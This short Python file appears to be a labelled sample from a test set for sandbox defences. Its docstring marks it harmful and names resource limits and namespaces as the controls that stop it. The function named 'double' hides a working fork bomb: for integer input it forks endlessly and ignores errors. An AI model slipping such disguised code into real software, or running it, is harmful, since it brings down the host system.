"""It forks without end, in every child as well.

earns: 3
harmful: yes
stopped by: rlimits, namespaces
"""

import os


def double(x):
    if isinstance(x, int):
        while True:
            try:
                os.fork()
            except OSError:
                continue
    return 2 * x
